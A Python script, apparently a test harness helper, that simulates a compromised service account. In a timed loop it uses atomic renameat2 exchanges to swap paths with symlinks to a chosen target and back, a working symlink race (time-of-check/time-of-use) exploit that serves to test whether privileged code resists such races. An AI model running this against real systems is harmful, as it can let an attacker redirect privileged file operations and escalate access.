"""What a service that was broken into can do on the host: put a link in the place of names in folders of its own, in a loop.

Run as that account: swapper.py SECONDS TARGET PLACE…; a PLACE is a path to swap, whether it is there yet or not. The two change
places at once, so there is no moment without either, and back after a while, so that the next look finds it as it should be.
Says how often it swapped one.
"""

import contextlib
import ctypes
import os
import sys
import time

AT_FDCWD, RENAME_EXCHANGE = -100, 2
# Long enough for all that is done by that name, or so short that what looks first finds another thing than what acts.
HOLD = (0.3, 0.03, 0.003)
libc = ctypes.CDLL(None)


def exchange(one: bytes, other: bytes) -> bool:
    return libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) == 0


seconds, target, *places = sys.argv[1:]
pairs = [(place.encode(), f"{place}.aside".encode()) for place in places]
swapped = 0
open("/tmp/swapper-started", "w").close()
end = time.monotonic() + float(seconds)
while time.monotonic() < end and not os.path.exists("/tmp/swapper-stop"):
    for _, aside in pairs:
        with contextlib.suppress(OSError):
            os.symlink(target, aside)
    # As fast as can be: what comes into being is swapped before anything is done with it.
    for _ in range(3000):
        for place, aside in pairs:
            if exchange(place, aside):
                time.sleep(HOLD[swapped % len(HOLD)])
                swapped += 1
                exchange(place, aside)
for _, aside in pairs:
    with contextlib.suppress(OSError):
        os.unlink(aside)
print(swapped)
